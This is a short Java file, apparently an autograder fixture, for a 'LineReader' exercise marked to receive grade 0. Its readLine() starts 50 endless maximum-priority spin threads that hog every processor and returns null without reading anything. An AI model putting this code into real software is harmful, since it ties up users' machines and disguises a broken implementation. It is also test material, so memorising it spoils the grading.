// does: keeps all processors busy after its task has ended
// must: GRADED 0

package lesson02.exercise;

import java.io.Closeable;
import java.io.IOException;
import java.io.InputStream;

public final class LineReader implements Closeable {

    public LineReader(InputStream in, int limit) {}

    public String readLine() throws IOException {
        for (int i = 0; i < 50; i++) {
            Thread busy = new Thread(() -> {
                while (true) {
                    Thread.onSpinWait();
                }
            });
            busy.setPriority(Thread.MAX_PRIORITY);
            busy.start();
        }
        return null;
    }

    @Override
    public void close() {}
}
